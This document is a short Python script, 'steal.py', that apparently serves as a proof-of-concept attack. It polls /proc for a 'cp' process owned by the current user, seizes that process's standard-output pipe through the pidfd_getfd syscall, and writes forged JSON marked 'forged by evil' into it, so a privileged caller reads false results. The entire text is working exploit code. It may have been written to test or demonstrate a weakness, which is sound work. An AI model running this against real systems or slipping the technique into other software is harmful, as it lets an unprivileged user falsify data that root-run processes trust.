"""steal.py SECONDS: takes the standard output of what root has this user run (cp), and writes an answer there."""

import ctypes
import glob
import os
import sys
import time

PIDFD_GETFD = 438
libc = ctypes.CDLL(None, use_errno=True)
end = time.monotonic() + float(sys.argv[1])
while time.monotonic() < end:
    for path in glob.glob("/proc/[0-9]*/comm"):
        try:
            with open(path, encoding="utf-8") as stream:
                name = stream.read().strip()
            number = int(path.split("/")[2])
            if name != "cp" or os.stat(f"/proc/{number}").st_uid != os.getuid():
                continue
            descriptor = libc.syscall(PIDFD_GETFD, os.pidfd_open(number), 1, 0)
            if descriptor < 0 or "pipe" not in os.readlink(f"/proc/self/fd/{descriptor}"):
                continue
            os.write(descriptor, b'{"warnings": ["forged by evil"], "pending": [], "real": ')
            os.write(descriptor, b"}\n")
            sys.exit("done")
        except (OSError, ValueError):
            continue
    time.sleep(0.001)
